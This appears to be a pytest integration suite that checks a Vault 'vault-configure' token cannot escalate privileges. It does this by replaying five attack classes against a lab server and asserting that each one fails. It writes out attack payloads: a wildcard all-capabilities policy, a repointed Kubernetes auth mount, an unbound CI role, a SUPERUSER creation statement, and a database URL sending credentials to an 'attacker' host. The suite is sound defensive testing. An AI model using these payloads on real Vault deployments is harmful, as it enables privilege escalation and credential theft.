"""Issue 20's five attack classes on vault-configure, reproduced against the real server.

GIVEN the session's bootstrapped lab and a token holding only vault-configure (the Job's own
login), WHEN an attacker who took that token tries each class THEN, judged by the outcome,
nothing it can obtain afterwards does more than vault-configure could at the start: the
objects vault-init owns are unchanged, no login the attacker controls yields a token with
another policy, and no identity binding points anywhere but where Git and Terraform say.

The attacker controls: the token, a Kubernetes API server of its own (the configure pod can
serve one: namespace vault has no NetworkPolicy), and any GitLab project's CI ID token (any
project of the instance can ask for one with any audience). It does not control the
application clusters' API servers. The generated variants of every grant are in
test_configure_grants.py; these are the issue's reproductions by name.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.vault.conftest import Bootstrapped
from vault_platform.vaultlab import KubeStandIn, Response
from vault_platform.vaultlab.cluster import APPLICATION_CLUSTER
from vault_platform.vaultlab.tls import write_lab_tls

pytestmark = pytest.mark.integration

EVERYTHING = 'path "*" { capabilities = ["create", "read", "update", "delete", "list", "sudo"] }'
APPLICATION_MOUNT = f"kubernetes-{APPLICATION_CLUSTER}"
# What vault-init wrote with the root token; the Job must never change any of it.
INIT_OWNED = ("sys/policies/acl/vault-configure", "sys/policies/acl/default",
              "auth/kubernetes/role/vault-configure", "auth/kubernetes/config")


@pytest.fixture(scope="module")
def attacker(bootstrapped: Bootstrapped) -> str:
    """The configure Job's token, from its own login (what a compromised Job pod holds)."""
    answer = bootstrapped.login("kubernetes", "vault-configure", "vault", "vault-configure")
    assert answer.status == 200, answer.body
    assert answer.body["auth"]["policies"] == ["default", "vault-configure"]
    return answer.body["auth"]["client_token"]


@pytest.fixture(scope="module")
def rogue_api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[KubeStandIn]:
    """A Kubernetes API server the attacker runs, with its own CA, vouching for any token it signs."""
    with KubeStandIn(write_lab_tls(tmp_path_factory.mktemp("rogue-tls") / "tls"), issuer="https://rogue",
                     auth_delegators=frozenset({"external-secrets/external-secrets", "demo/demo-app"})) as rogue:
        yield rogue


def init_owned_state(bootstrapped: Bootstrapped) -> dict[str, object]:
    with bootstrapped.operator_root() as root:
        client = bootstrapped.lab.client(root)
        return {path: client.request("GET", path).body.get("data") for path in INIT_OWNED}


@pytest.fixture(scope="module")
def init_state_before(bootstrapped: Bootstrapped, attacker: str) -> dict[str, object]:
    return init_owned_state(bootstrapped)


def may(bootstrapped: Bootstrapped, token: str, method: str, path: str) -> list[str]:
    """The capabilities ``token`` has on ``path`` (sys/capabilities-self: what the server would allow)."""
    answer = bootstrapped.lab.client(token).request("POST", "sys/capabilities-self", {"paths": [path]})
    assert answer.status == 200, answer.body
    return sorted(answer.body["capabilities"])


def try_(bootstrapped: Bootstrapped, token: str, method: str, path: str, body: object = None) -> Response:
    return bootstrapped.lab.client(token).request(method, path, body)


def pem_b64(kube: KubeStandIn) -> str:
    return kube.tls.ca_cert.read_text()


# --- class 1: case variants of the exact paths that fence off vault-init's objects -------------
@pytest.mark.parametrize(("path", "body"), [
    ("sys/policies/acl/VAULT-CONFIGURE", {"policy": EVERYTHING}),
    ("sys/policies/acl/Default", {"policy": EVERYTHING}),
    ("auth/kubernetes/role/VAULT-CONFIGURE", {"bound_service_account_names": ["external-secrets"],
                                               "bound_service_account_namespaces": ["external-secrets"],
                                               "token_policies": ["external-secrets"], "token_ttl": "1h"}),
], ids=["own-policy", "default-policy", "own-role"])
def test_case_variant_does_not_reach_init_owned_objects(bootstrapped: Bootstrapped, attacker: str,
                                                        init_state_before: dict[str, object], path: str, body: object):
    try_(bootstrapped, attacker, "POST", path, body)
    assert may(bootstrapped, attacker, "POST", "sys/mounts/attacker") == ["deny"]
    assert init_owned_state(bootstrapped) == init_state_before, f"POST {path} changed what vault-init owns"


# --- class 2: policy content plus an unpinned identity binding -------------------------------
def test_a_mount_of_its_own_with_a_rewritten_policy_yields_no_token(bootstrapped: Bootstrapped, attacker: str,
                                                                    rogue_api: KubeStandIn):
    try_(bootstrapped, attacker, "POST", "sys/policies/acl/external-secrets", {"policy": EVERYTHING})
    try_(bootstrapped, attacker, "POST", "sys/auth/kubernetes-rogue", {"type": "kubernetes"})
    try_(bootstrapped, attacker, "POST", "auth/kubernetes-rogue/config",
         {"kubernetes_host": rogue_api.url, "kubernetes_ca_cert": pem_b64(rogue_api), "disable_local_ca_jwt": True})
    try_(bootstrapped, attacker, "POST", "auth/kubernetes-rogue/role/external-secrets",
         {"bound_service_account_names": ["external-secrets"], "bound_service_account_namespaces": ["external-secrets"],
          "token_policies": ["external-secrets"], "token_ttl": "1h"})
    login = bootstrapped.lab.client().request("POST", "auth/kubernetes-rogue/login", {
        "role": "external-secrets", "jwt": rogue_api.service_account_token("external-secrets", "external-secrets")})
    assert login.status != 200, f"a login on a mount the attacker pointed at its own API server: {login.body['auth']}"
    with bootstrapped.operator_root() as root:
        policy = bootstrapped.lab.client(root).request("GET", "sys/policies/acl/external-secrets").body["data"]["policy"]
    assert policy == (Path(__file__).parents[2] / "flux/infrastructure/vault-config/policies/external-secrets.hcl").read_text()


def test_the_application_mount_cannot_be_repointed(bootstrapped: Bootstrapped, attacker: str, rogue_api: KubeStandIn):
    try_(bootstrapped, attacker, "POST", f"auth/{APPLICATION_MOUNT}/config",
         {"kubernetes_host": rogue_api.url, "kubernetes_ca_cert": pem_b64(rogue_api), "disable_local_ca_jwt": True})
    login = bootstrapped.lab.client().request("POST", f"auth/{APPLICATION_MOUNT}/login", {
        "role": "demo-app", "jwt": rogue_api.service_account_token("demo", "demo-app")})
    assert login.status != 200, f"the application mount now trusts the attacker's API server: {login.body['auth']}"


def test_a_ci_role_without_bound_claims_admits_no_other_project(bootstrapped: Bootstrapped, attacker: str):
    ci = json.loads((Path(__file__).parents[2] / "flux/infrastructure/vault-config/config/ci-roles.json").read_text())
    try_(bootstrapped, attacker, "POST", "auth/jwt-gitlab/role/any-project", {
        "role_type": "jwt", "user_claim": "project_path", "bound_audiences": [ci["audience"]],
        "token_policies": ["ci-vault-platform"], "token_ttl": "5m", "token_max_ttl": "15m"})
    gitlab = bootstrapped.lab.gitlab
    assert gitlab is not None
    jwt = gitlab.id_token("someone/else", "feature", aud=ci["audience"], ref_protected=False)
    login = bootstrapped.lab.client().request("POST", "auth/jwt-gitlab/login", {"role": "any-project", "jwt": jwt})
    assert login.status != 200, f"another project's CI job logged in: {login.body['auth']}"


# --- class 3: a parameter left out --------------------------------------------------------
def test_an_application_mount_never_reviews_with_vaults_own_token(bootstrapped: Bootstrapped, attacker: str):
    with bootstrapped.operator_root() as root:
        before = bootstrapped.lab.client(root).request("GET", f"auth/{APPLICATION_MOUNT}/config").body["data"]
    assert before["disable_local_ca_jwt"] is True
    try_(bootstrapped, attacker, "POST", f"auth/{APPLICATION_MOUNT}/config",
         {"kubernetes_host": before["kubernetes_host"], "kubernetes_ca_cert": before["kubernetes_ca_cert"]})
    with bootstrapped.operator_root() as root:
        after = bootstrapped.lab.client(root).request("GET", f"auth/{APPLICATION_MOUNT}/config").body["data"]
    assert after["disable_local_ca_jwt"] is True, "Vault would send its own service-account token to kubernetes_host"


# --- class 5: the database engine -----------------------------------------------------------
DATABASE = json.loads((Path(__file__).parents[2] / "flux/infrastructure/vault-config/config/database.json").read_text())


@pytest.mark.parametrize(("path", "body"), [
    (f"database/config/{DATABASE['connection']}",
     {"plugin_name": "postgresql-database-plugin", "connection_url": "postgresql://{{username}}:{{password}}@attacker:5432/x",
      "allowed_roles": ["*"], "verify_connection": False}),
    (f"database/config/{DATABASE['connection']}-bootstrap",
     {"plugin_name": "postgresql-database-plugin", "connection_url": "postgresql://{{username}}:{{password}}@attacker:5432/x",
      "allowed_roles": ["*"], "verify_connection": False}),
    (f"database/roles/{DATABASE['connection']}-bootstrap",
     {"db_name": DATABASE["connection"], "creation_statements": ['CREATE ROLE "{{name}}" LOGIN SUPERUSER']}),
    ("database/roles/attacker", {"db_name": DATABASE["connection"], "creation_statements": ["SELECT 1"]}),
], ids=["repoint-connection", "bootstrap-connection-anywhere", "bootstrap-role-any-sql", "another-role"])
def test_the_database_engine_takes_only_gits_settings(bootstrapped: Bootstrapped, attacker: str, path: str, body: object):
    answer = try_(bootstrapped, attacker, "POST", path, body)
    with bootstrapped.operator_root() as root:
        stored = bootstrapped.lab.client(root).request("GET", path)
    assert answer.status == 403 and stored.status == 404, \
        f"POST {path} answered {answer.status}; stored: {stored.status} {stored.body.get('data')}"
